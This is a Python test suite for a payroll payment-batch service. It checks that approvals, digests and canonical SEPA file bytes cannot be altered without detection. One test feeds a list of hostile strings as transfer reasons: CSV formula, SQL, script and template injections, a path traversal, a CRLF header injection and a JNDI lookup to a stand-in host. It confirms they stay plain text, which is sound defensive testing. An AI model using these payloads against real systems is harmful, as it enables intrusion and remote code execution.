"""What is paid is what was approved; and names and reasons stay text, whatever they want to be."""

import csv
import io
import json
from dataclasses import replace
from hashlib import sha256
from typing import Any
from urllib.parse import unquote

import httpx2
import pytest
import sqlalchemy as sa

from app.core.database import transaction
from app.core.money import cents_to_text
from app.payments.digest import PREFIX
from app.payments.models import PaymentFile
from tests.support.clock import FakeClock
from tests.support.house import House, document, lines

_LINE = "UPDATE credit_transfer SET {} WHERE batch_id = :batch AND position = 2"
_ACCOUNT = "UPDATE debtor_account SET {} WHERE id = (SELECT debtor_account_id FROM payment_batch WHERE id = :batch)"
_BATCH = "UPDATE payment_batch SET {} WHERE id = :batch"
_CHANGES = {
    "a name": _LINE.format("creditor_name = 'Somebody Else'"),
    "an account": _LINE.format("creditor_iban = 'NL39RABO0300065264'"),
    "a BIC": _LINE.format("creditor_bic = 'RABONL2U'"),
    "an amount by a cent": _LINE.format("amount_cents = amount_cents + 1"),
    "an amount, the total kept": (
        "UPDATE credit_transfer SET amount_cents = amount_cents + CASE position WHEN 1 THEN 1 ELSE -1 END "
        "WHERE batch_id = :batch AND position IN (1, 2)"
    ),
    "a text": _LINE.format("remittance_text = 'Something else'"),
    "no text": _LINE.format("remittance_kind = 'none', remittance_text = ''"),
    "an end-to-end id": _LINE.format("end_to_end_id = 'X' || substr(end_to_end_id, 2)"),
    "an attempt": _LINE.format("attempt = attempt + 1"),
    "a kind": _LINE.format("kind = 'third_party'"),
    "a line less": _LINE.format("status = 'excluded', decision = 'exclude'"),
    "two lines in another order": (
        "UPDATE credit_transfer SET position = position + 1000 WHERE batch_id = :batch AND position = 1"
    ),
    "the holder's name": _ACCOUNT.format("holder_name = 'Bakkerij Pietersen B.V.'"),
    "the debtor's account": _ACCOUNT.format("iban = 'NL39RABO0300065264'"),
    "the debtor's BIC": _ACCOUNT.format("bic = 'ABNANL2A'"),
    "the schema": _ACCOUNT.format("file_schema = 'pain.001.001.03'"),
    "the batch booking": _ACCOUNT.format("batch_booking = NOT batch_booking"),
    "the execution date": _BATCH.format("requested_execution_date = requested_execution_date + 1"),
}


@pytest.mark.parametrize("change", _CHANGES.values(), ids=_CHANGES.keys())
def test_what_was_altered_after_it_was_shown_is_not_approved(house: House, change: str) -> None:
    """Each field of what will stand in the file, altered in the database: 412, no file, no approval that counts."""
    batch = house.uploaded_batch(document(lines(3)))
    with transaction(house.ctx.engine) as session:
        altered = session.execute(sa.text(change), {"batch": batch["id"]})
        assert altered.rowcount >= 1  # type: ignore[attr-defined]

    answer = house.boss.approve(batch)

    assert (answer.status_code, answer.json()["code"]) == (412, "batch_changed")
    with transaction(house.ctx.engine) as session:
        assert session.execute(sa.select(sa.func.count()).select_from(PaymentFile)).scalar_one() == 0
    assert house.batch(batch["id"])["approvals"] == []


def test_a_batch_that_an_upgrade_would_write_otherwise_is_saved_and_approved(house: House) -> None:
    """Rows and digest disagree, and nobody can approve: saved with its date, it is a revision to look at anew."""
    batch = house.uploaded_batch(document(lines(3)))
    path, same = f"/v1/payment-batches/{batch['id']}", {"requested_execution_date": batch["requested_execution_date"]}
    assert house.boss.call("PATCH", path, json=same, headers={"If-Match": '"r1"'}).json()["revision"] == 1
    with transaction(house.ctx.engine) as session:
        session.execute(sa.text(_LINE.format("remittance_text = 'Loon'")), {"batch": batch["id"]})
    assert house.boss.approve(batch).json()["code"] == "batch_changed"

    saved = house.boss.call("PATCH", path, json=same, headers={"If-Match": '"r1"'}).json()

    assert (saved["revision"], saved["digest"] == batch["digest"]) == (2, False)
    assert "batch.judged_again" in house.events()
    assert house.boss.approve(saved).json()["status"] == "approved"


def test_every_field_of_a_line_that_is_approved_is_shown(house: House) -> None:
    """What the digest covers of a line stands in the list of lines as well: nobody approves a BIC they never saw."""
    rows = [
        replace(lines(1)[0], bic="INGBNL2A"),
        replace(lines(2)[1], text="", reference="8234567890123456", name="Belastingdienst"),
        replace(lines(3)[2], text=""),
    ]
    batch = house.uploaded_batch(document(rows))

    shown = house.transfers(batch["id"])

    approved = json.loads(_canonical(house, batch).content.removeprefix(PREFIX))["lines"]
    by_id = {each["end_to_end_id"]: each for each in approved}
    for line in shown:
        of = by_id[line["end_to_end_id"]]
        assert line["creditor"] == {"name": of["name"], "iban": of["iban"], "bic": of["bic"]}
        assert line["amount"]["amount"] == cents_to_text(of["amount_cents"])
        assert (line["remittance_kind"], line["remittance_information"]) == tuple(
            of["remittance"][name] for name in ("kind", "text")
        )
    assert [line["creditor"]["bic"] for line in shown] == ["INGBNL2A", None, None]
    assert [line["remittance_kind"] for line in shown] == ["unstructured", "structured", "none"]


def _canonical(house: House, batch: dict[str, Any]) -> httpx2.Response:
    return house.boss.get(f"/v1/payment-batches/{batch['id']}/canonical")


def test_the_bytes_under_the_digest_stay_what_was_approved(house: House, clock: FakeClock) -> None:
    """Executed, refused, returned, with a line left out: an auditor still computes the digest that was approved."""
    second = house.second_person()
    shown = house.uploaded_batch(document(lines(4)))
    left_out = f"/v1/payment-batches/{shown['id']}/transfers/{house.transfers(shown['id'])[3]['id']}"
    body = {"decision": "exclude", "reason": "Left the firm"}
    assert house.boss.call("PATCH", left_out, json=body, headers={"If-Match": '"r1"'}).status_code == 200
    before = house.batch(shown["id"])
    assert house.boss.approve(before).status_code == 201
    assert house.deliver(shown["id"]).status_code == 201
    ids = [each["id"] for each in house.transfers(shown["id"])]
    clock.forward(days=7)
    path = f"/v1/payment-batches/{shown['id']}/statements"
    assert house.boss.post(path, {"statement": "executed", "reason": "r", "transfer_ids": ids[:2]}).status_code == 201
    for person in (house.boss, second):
        person.post(path, {"statement": "refused", "reason": "r", "transfer_ids": ids[2:3]})
        person.post(f"/v1/transfers/{ids[0]}/return", {"reason": "r"})

    after = _canonical(house, before)

    assert [each["status"] for each in house.transfers(shown["id"])] == ["returned", "executed", "refused", "excluded"]
    assert sha256(after.content).hexdigest() == before["digest"] == house.batch(shown["id"])["digest"]


@pytest.mark.parametrize(
    "change",
    [
        _LINE.format("creditor_name = 'Somebody Else'"),
        _BATCH.format("approved_frame = jsonb_set(approved_frame, '{control_sum_cents}', '1')"),
        _BATCH.format("approved_frame = NULL") + "; " + _ACCOUNT.format("bic = 'ABNANL2A'"),
    ],
    ids=["a line", "what was kept", "approved before anything was kept"],
)
def test_bytes_that_are_not_those_of_the_digest_are_never_shown(house: House, change: str) -> None:
    """Rows that changed after the digest was made give no other bytes under its name: 409, and what still tells."""
    batch = house.approved()
    assert _canonical(house, batch).status_code == 200
    with transaction(house.ctx.engine) as session:
        for statement in change.split("; "):
            session.execute(sa.text(statement), {"batch": batch["id"]})

    answer = _canonical(house, batch)

    assert (answer.status_code, answer.json()["code"]) == (409, "canonical_changed")
    assert "history" in answer.json()["detail"]


def test_what_is_done_with_other_lines_and_the_account_later_changes_no_bytes(house: House) -> None:
    """A left-out line is paid elsewhere, a refused one waived, the account set otherwise: an auditor has the bytes."""
    second = house.second_person()
    batch = house.uploaded_batch(document([replace(lines(1)[0], currency="USD"), *lines(4)[1:]]))
    assert house.boss.approve(batch).status_code == 201
    assert house.deliver(batch["id"]).status_code == 201
    ids = [each["id"] for each in house.transfers(batch["id"])]
    said = {"statement": "refused", "reason": "Account closed", "transfer_ids": ids[1:2]}
    for person in (house.boss, second):
        person.post(f"/v1/payment-batches/{batch['id']}/statements", said)
    for line, way in ((ids[0], "paid-elsewhere"), (ids[1], "waiver")):
        assert house.boss.post(f"/v1/transfers/{line}/{way}", {"reason": "In cash"}).status_code == 201
    with transaction(house.ctx.engine) as session:
        for change in ("bic = 'ABNANL2A'", "file_schema = 'pain.001.001.03'", "batch_booking = NOT batch_booking"):
            session.execute(sa.text(_ACCOUNT.format(change)), {"batch": batch["id"]})

    after = _canonical(house, batch)

    assert after.status_code == 200, after.text
    assert sha256(after.content).hexdigest() == batch["digest"]
    told = json.loads(after.content.removeprefix(PREFIX))
    assert [each["status"] for each in told["left_out"]] == ["invalid"]
    assert (len(told["lines"]), told["schema"], told["debtor"]["bic"]) == (3, "pain.001.001.09", None)


def test_a_batch_that_is_approved_again_shows_what_was_approved_last(house: House) -> None:
    """Recalled, changed and approved anew: the bytes are those of the new digest, before and after."""
    first = house.approved()
    recalled = house.boss.call("DELETE", f"/v1/payment-batches/{first['id']}/approvals/mine")
    assert recalled.status_code == 200, recalled.text
    pending = house.batch(first["id"])
    assert sha256(_canonical(house, first).content).hexdigest() == pending["digest"] != first["digest"]

    assert house.boss.approve(pending).status_code == 201

    assert sha256(_canonical(house, first).content).hexdigest() == pending["digest"]


_HOSTILE_TEXTS = (
    '=HYPERLINK("https://evil.example";"klik")', "+31 6", "-1+1", "@SUM(A1)", "\t=1+1", " =1+1", "'=1+1",
    '"; DROP TABLE claim; --', "</td><script>alert(1)</script>", "a;b;c", 'a"b', "../../etc/passwd", "{{7*7}}",
    "${jndi:ldap://evil.example}", "%0d%0aSet-Cookie: a=b", "résumé", "王小明", "x" * 300,
)  # fmt: skip


@pytest.mark.parametrize("text", _HOSTILE_TEXTS)
def test_hostile_texts_stay_text_in_every_answer(house: House, text: str) -> None:
    """A reason that wants to be a formula, markup or a path: text in JSON, no formula in CSV, and our own file name."""
    batch = house.uploaded_batch(document(lines(2)))
    line = house.transfers(batch["id"])[0]
    path = f"/v1/payment-batches/{batch['id']}"
    held = house.boss.call(
        "PATCH",
        f"{path}/transfers/{line['id']}",
        json={"decision": "hold", "reason": text},
        headers={"If-Match": '"r1"'},
    )
    assert held.status_code == 200, held.text
    assert house.boss.approve(house.batch(batch["id"])).status_code == 201

    shown = house.boss.get("/v1/history", headers={"Accept": "text/csv"})
    file = house.boss.get(f"{path}/file")

    assert house.transfers(batch["id"])[0]["decision_reason"] in (text, " ".join(text.split()))
    cells = [cell for row in _rows(shown.text) for cell in row]
    assert any(" ".join(text.split())[:20] in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    name = unquote(file.headers["content-disposition"]).partition("filename=")[2].strip('"')
    assert name == f"{house.batch(batch['id'])['file']['message_id']}.xml"


def _rows(text: str) -> list[list[Any]]:
    return list(csv.reader(io.StringIO(text.removeprefix("﻿")), delimiter=";"))


def test_what_the_first_of_two_people_approved_can_still_be_shown(house: House) -> None:
    """One approved, then the batch was rejected and its lines were closed: an auditor has the bytes that one saw."""
    house.second_person()
    body = {"tiers": [{"from": {"amount": "0.00"}, "required": 2}]}
    assert house.boss.call("PUT", f"/v1/employers/{house.employer_id}/approval-policy", json=body).is_success
    batch = house.uploaded_batch()
    assert house.boss.approve(batch).json()["status"] == "pending"
    path = f"/v1/payment-batches/{batch['id']}/rejection"
    assert house.boss.post(path, {"reason": "Wrong month"}, headers={"If-Match": '"r1"'}).is_success
    line = house.transfers(batch["id"])[0]["id"]
    assert house.boss.post(f"/v1/transfers/{line}/waiver", {"reason": "Not owed"}).status_code == 201

    assert sha256(_canonical(house, batch).content).hexdigest() == batch["digest"]
